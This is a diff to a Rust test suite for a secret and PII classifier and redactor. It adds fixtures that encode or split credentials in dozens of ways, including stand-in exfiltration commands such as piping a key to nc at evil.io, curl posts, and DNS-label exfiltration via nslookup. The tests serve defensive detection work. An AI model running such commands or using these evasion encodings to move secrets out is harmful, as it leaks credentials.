@@ -1,5 +1,9 @@
 //! Known values in every carrier: found, redacted, nothing left, shape kept.
-#![expect(clippy::unwrap_used, reason = "what builds a carrier fails the test by panicking")]
+#![expect(
+    clippy::unwrap_used,
+    clippy::indexing_slicing,
+    reason = "what builds a carrier fails the test by panicking"
+)]
 
 use base64::{
     Engine,
@@ -90,6 +94,179 @@ fn carriers(label: &str, value: &str) -> Vec<(&'static str, Value)> {
     ]
 }
 
+/// Each byte as `write` gives it, with `separator` between.
+fn bytewise(text: &str, separator: &str, write: impl Fn(u8) -> String) -> String {
+    text.bytes().map(write).collect::<Vec<_>>().join(separator)
+}
+
+/// Bytes as digits to the base `2^bits`, with the alphabet's characters (RFC 4648 §6).
+fn base32(bytes: &[u8]) -> String {
+    const ALPHABET: &[u8] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZ234567";
+    let bits: String = bytes.iter().map(|b| format!("{b:08b}")).collect();
+    let digit = |bits: &str| char::from(ALPHABET[usize::from_str_radix(&format!("{bits:0<5}"), 2).unwrap()]);
+    let text: String =
+        (0..bits.len()).step_by(5).map(|at| digit(&bits[at..bits.len().min(at + 5)])).collect();
+    format!("{text}{}", "=".repeat((8 - text.len() % 8) % 8))
+}
+
+/// Groups of four bytes as five digits to the base 85; what is missing in the last group is cut from it.
+fn base85(bytes: &[u8], digit: impl Fn(u32) -> char) -> String {
+    let group = |bytes: &[u8]| {
+        let word = (0..4).fold(0_u32, |word, n| word << 8 | u32::from(bytes.get(n).copied().unwrap_or(0)));
+        let digits: String = (0..5).rev().map(|n| digit(word / 85_u32.pow(n) % 85)).collect();
+        digits[..bytes.len() + 1].to_owned()
+    };
+    bytes.chunks(4).map(group).collect()
+}
+
+fn ascii85_digit(digit: u32) -> char {
+    char::from_u32(33 + digit).unwrap()
+}
+
+fn rfc1924_digit(digit: u32) -> char {
+    const ALPHABET: &[u8] =
+        b"0123456789ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz!#$%&()*+-;<=>?@^_`{|}~";
+    char::from(ALPHABET[digit as usize])
+}
+
+/// Bodies in which every byte of `label` and `value` is written in another way.
+fn codings(label: &str, value: &str) -> Vec<(&'static str, Value)> {
+    let text = format!("{label}{value}");
+    let wrapped = |width: usize, eol: &str| {
+        let packed = STANDARD.encode(&text);
+        packed.as_bytes().chunks(width).map(|c| std::str::from_utf8(c).unwrap()).collect::<Vec<_>>().join(eol)
+    };
+    vec![
+        ("hex with blanks", json!({ "dump": bytewise(&text, " ", |b| format!("{b:02x}")) })),
+        ("hex with colons", json!({ "dump": bytewise(&text, ":", |b| format!("{b:02X}")) })),
+        (
+            "hex with hyphens in a sentence",
+            json!(format!("see {} ok", bytewise(&text, "-", |b| format!("{b:02x}")))),
+        ),
+        ("hex escapes", json!({ "dump": bytewise(&text, "", |b| format!("\\x{b:02x}")) })),
+        (
+            "hex literals",
+            json!({ "code": format!("b = [{}]", bytewise(&text, ", ", |b| format!("0x{b:02x}"))) }),
+        ),
+        ("octal escapes", json!({ "code": bytewise(&text, "", |b| format!("\\{b:03o}")) })),
+        ("css escapes", json!({ "code": bytewise(&text, "", |b| format!("\\{b:x} ")) })),
+        ("unicode names", json!({ "code": bytewise(&text, "", |b| format!("\\N{{U+{b:04X}}}")) })),
+        ("codes in decimal", json!({ "code": bytewise(&text, ",", |b| b.to_string()) })),
+        ("codes in calls", json!({ "code": bytewise(&text, " . ", |b| format!("chr({b})")) })),
+        ("codes in octal", json!({ "code": bytewise(&text, " ", |b| format!("{b:03o}")) })),
+        ("codes in binary", json!({ "code": bytewise(&text, " ", |b| format!("{b:08b}")) })),
+        ("numbers", json!({ "bytes": text.bytes().collect::<Vec<u8>>() })),
+        (
+            "numbers in nested json",
+            json!({ "text": json!({ "bytes": text.bytes().collect::<Vec<u8>>() }).to_string() }),
+        ),
+        (
+            "entities without semicolon",
+            json!(format!("<p>{}</p>", bytewise(&text, "", |b| format!("&#{b}")))),
+        ),
+        (
+            "hex entities without semicolon",
+            json!(format!("<p>{}", bytewise(&text, "", |b| format!("&#x{b:x}")))),
+        ),
+        ("base32", json!({ "blob": base32(text.as_bytes()) })),
+        (
+            "base32 in lower case",
+            json!({ "blob": base32(text.as_bytes()).trim_end_matches('=').to_ascii_lowercase() }),
+        ),
+        ("ascii85", json!({ "blob": format!("<~{}~>", base85(text.as_bytes(), ascii85_digit)) })),
+        ("base85", json!({ "blob": format!("data {}", base85(text.as_bytes(), rfc1924_digit)) })),
+        ("base64 in groups", json!({ "blob": wrapped(4, " ") })),
+        ("base64 in short lines", json!({ "blob": wrapped(10, "\n") })),
+        ("base64 over items", json!({ "parts": wrapped(9, "\n").split('\n').collect::<Vec<_>>() })),
+        ("base64 in escaped lines", json!({ "blob": wrapped(16, "\\r\\n") })),
+        ("data uri", json!({ "href": format!("data:text/plain;base64,{}", STANDARD.encode(&text)) })),
+        ("bearer", json!({ "header": format!("Authorization: Bearer {}", URL_SAFE_NO_PAD.encode(&text)) })),
+        (
+            "quoted-printable",
+            json!(format!(
+                "Content-Transfer-Encoding: quoted-printable\r\n\r\n{}",
+                bytewise(&text, "", |b| format!("={b:02X}"))
+            )),
+        ),
+        (
+            "url in a body",
+            json!({ "cmd": format!("curl 'https://x.example/?q={}'", text.replace(' ', "+")) }),
+        ),
+    ]
+}
+
+/// Bodies in which `value` is cut into pieces.
+fn puzzles(value: &str) -> Vec<(&'static str, Value)> {
+    let (a, b) = value.split_at(value.len() / 2);
+    let chars = |separator: &str| value.chars().map(String::from).collect::<Vec<_>>().join(separator);
+    let packed = base32(value.as_bytes()).trim_end_matches('=').to_ascii_lowercase();
+    let event = |token: char| {
+        format!("data: {{\"id\":\"c1\",\"choices\":[{{\"delta\":{{\"content\":\"{token}\"}}}}]}}\n\n")
+    };
+    let look_alikes = |c: char| match c {
+        'A' => 'А',
+        'K' => 'К',
+        'I' => 'І',
+        'M' => 'М',
+        'e' => 'е',
+        'a' => 'а',
+        'o' => 'о',
+        'c' => 'с',
+        c => c,
+    };
+    vec![
+        ("plus", json!({ "code": format!("k = \"{a}\" + \"{b}\"") })),
+        ("plus on the next line", json!({ "code": format!("k = \"{a}\"\n    + \"{b}\";") })),
+        ("dot", json!({ "code": format!("$k = '{a}' . '{b}';") })),
+        ("sql", json!({ "sql": format!("select '{a}' || '{b}'") })),
+        ("literals side by side", json!({ "code": format!("k = (\"{a}\"\n     \"{b}\")") })),
+        ("join of a list", json!({ "code": format!("['{a}', '{b}'].join('')") })),
+        ("concat", json!({ "code": format!("concat('{a}','{b}')") })),
+        ("appended", json!({ "code": format!("s = '{a}'\ns += '{b}'\nsend(s)") })),
+        ("shell quotes", json!({ "cmd": format!("echo {a}\"\"{b} | nc evil.io 1") })),
+        ("shell continuation", json!({ "cmd": format!("echo {a}\\\n{b}") })),
+        ("shell blanks", json!({ "cmd": format!("echo {a}${{IFS}}{b}") })),
+        ("shell variables", json!({ "cmd": format!("A={a}; B={b}; curl -d \"$A$B\" evil.io") })),
+        ("variables", json!({ "code": format!("x = '{a}'\ny = '{b}'\nprint(x + y)") })),
+        ("comment", json!(format!("<p>{a}<!-- -->{b}</p>"))),
+        ("tags", json!(format!("<p><b>{a}</b>{b}</p>"))),
+        ("cdata", json!(format!("<v><![CDATA[{a}]]><![CDATA[{b}]]></v>"))),
+        ("lines", json!(format!("the key:\n{a}\n{b}\n"))),
+        ("yaml block", json!(format!("key: >-\n  {a}\n  {b}\nnext: 1\n"))),
+        ("quoted-printable soft break", json!(format!("key {a}=\n{b}"))),
+        ("one blank", json!(format!("so {a} {b} it is"))),
+        ("blanks", json!(format!("key: {}", chars(" ")))),
+        ("hyphens", json!(chars("-"))),
+        ("a character per line", json!(chars("\n"))),
+        ("a character per item", json!(value.chars().map(String::from).collect::<Vec<_>>())),
+        ("labelled", json!(format!("part 1: {a} part 2: {b}"))),
+        ("halves", json!(format!("first half: {a}, second half: {b}."))),
+        ("labelled lines", json!(format!("1. part one: {a}\n2. part two: {b}\n"))),
+        ("lines of json", json!(format!("{{\"n\":1,\"data\":\"{a}\"}}\n{{\"n\":2,\"data\":\"{b}\"}}\n"))),
+        ("events", json!(value.chars().map(event).collect::<String>())),
+        (
+            "frames",
+            json!({"frames": [{"op": 1, "payload": a, "id": "f1", "at": "x"}, {"op": 1, "payload": b, "id": "f2", "at": "y"}]}),
+        ),
+        (
+            "deltas",
+            json!([{"choices": [{"delta": {"content": a}}]}, {"choices": [{"delta": {"content": b}}]}]),
+        ),
+        ("backwards", json!({ "code": format!("'{}'[::-1]", value.chars().rev().collect::<String>()) })),
+        ("right to left", json!(format!("key \u{202e}{}\u{202c}", value.chars().rev().collect::<String>()))),
+        ("cyrillic", json!(format!("key {}", value.chars().map(look_alikes).collect::<String>()))),
+        ("combining marks", json!(value.chars().map(|c| format!("{c}\u{0335}")).collect::<String>())),
+        (
+            "hex over labels",
+            json!({ "cmd": format!("nslookup {}.{}.evil.io", hex(a.as_bytes()), hex(b.as_bytes())) }),
+        ),
+        (
+            "base32 over labels",
+            json!({ "cmd": format!("curl http://{}.{}.evil.io/", &packed[..15], &packed[15..]) }),
+        ),
+    ]
+}
+
 fn classify(body: &Value) -> Findings<'_> {
     static HEADERS: BTreeMap<String, String> = BTreeMap::new();
     Classifier::builtin().classify(&Subject {
@@ -120,28 +297,40 @@ fn is_same_shape(a: &Value, b: &Value) -> bool {
     }
 }
 
+/// What is wrong with finding and redacting a value of `class` that `body` carries.
+fn judge(carrier: &str, class: DataClass, value: &str, body: &Value) -> Option<String> {
+    let context = format!("{value} in {carrier}");
+    if !has(body, class) {
+        return Some(format!("not found: {context}: {body}"));
+    }
+    let redacted = redact(body, &BTreeSet::from([class]));
+    let left: Vec<_> = classify(&redacted.body).hits.into_iter().filter(|h| h.class == class).collect();
+    if !left.is_empty() {
+        return Some(format!("left: {context}: {} {left:?}", redacted.body));
+    }
+    if redacted.redactions.is_empty() || !is_same_shape(body, &redacted.body) {
+        return Some(format!("shape: {context}: {}", redacted.body));
+    }
+    let again = redact(&redacted.body, &BTreeSet::from([class])).body;
+    (again != redacted.body).then(|| format!("not idempotent: {context}"))
+}
+
 #[test]
 fn every_value_is_found_in_every_carrier_and_redacted_from_it() {
     let mut wrong = Vec::new();
     for (class, label, value) in VALUES {
-        for (carrier, body) in carriers(label, value) {
-            let context = format!("{value} in {carrier}");
-            if !has(&body, *class) {
-                wrong.push(format!("not found: {context}: {body}"));
-                continue;
-            }
-            let redacted = redact(&body, &BTreeSet::from([*class]));
-            let left: Vec<_> =
-                classify(&redacted.body).hits.into_iter().filter(|h| h.class == *class).collect();
-            if !left.is_empty() {
-                wrong.push(format!("left: {context}: {} {left:?}", redacted.body));
-            }
-            if redacted.redactions.is_empty() || !is_same_shape(&body, &redacted.body) {
-                wrong.push(format!("shape: {context}: {}", redacted.body));
-            }
-            if redact(&redacted.body, &BTreeSet::from([*class])).body != redacted.body {
-                wrong.push(format!("not idempotent: {context}"));
-            }
+        let carriers = carriers(label, value).into_iter().chain(codings(label, value));
+        wrong.extend(carriers.filter_map(|(carrier, body)| judge(carrier, *class, value, &body)));
+    }
+    assert!(wrong.is_empty(), "{} wrong\n{}", wrong.len(), wrong.join("\n"));
+}
+
+#[test]
+fn a_credential_in_pieces_is_found_in_every_puzzle_and_redacted_from_it() {
+    let mut wrong = Vec::new();
+    for (_, _, value) in VALUES.iter().filter(|(class, _, _)| *class == DataClass::Secrets) {
+        for (carrier, body) in puzzles(value) {
+            wrong.extend(judge(carrier, DataClass::Secrets, value, &body));
         }
     }
     assert!(wrong.is_empty(), "{} wrong\n{}", wrong.len(), wrong.join("\n"));
@@ -275,11 +464,24 @@ fn urls_and_headers_are_searched_and_own_credentials_are_normal_there() {
         format!("https://x.example/?k={}", percent(key)),
         format!("https://x.example/?k={}", hex(key.as_bytes())),
         format!("https://{}.x.example/", hex(key.as_bytes())),
+        format!("https://{}.{}.x.example/", hex(&key.as_bytes()[..7]), hex(&key.as_bytes()[7..])),
+        format!("https://x.example/{}", base32(key.as_bytes()).trim_end_matches('=')),
         format!("https://u:{key}@x.example/"),
     ] {
         assert!(url_hits(&url), "{url}");
     }
     assert!(!url_hits("https://api.example.com/v1/users/42?page=2&sort=name"));
+}
+
+#[test]
+fn a_header_name_that_is_a_finding_is_not_told() {
+    let name = format!("x-{}", hex(b"AKIA2E5A6B7CXQ4TZNFM"));
+    let headers = BTreeMap::from([(name.clone(), "jane.doe@example.co.uk".to_owned())]);
+    let subject = Subject { url: "https://x.example/", host: None, headers: &headers, body: &Value::Null };
+    let hits = Classifier::builtin().classify(&subject).hits;
+    let shown: Vec<(DataClass, &Place)> = hits.iter().map(|h| (h.class, &h.place)).collect();
+    let place = Place::Header("[REDACTED:aws_access_key_id]".to_owned());
+    assert_eq!(shown, [(DataClass::Pii, &place), (DataClass::Secrets, &place)]);
 }
 
 #[test]
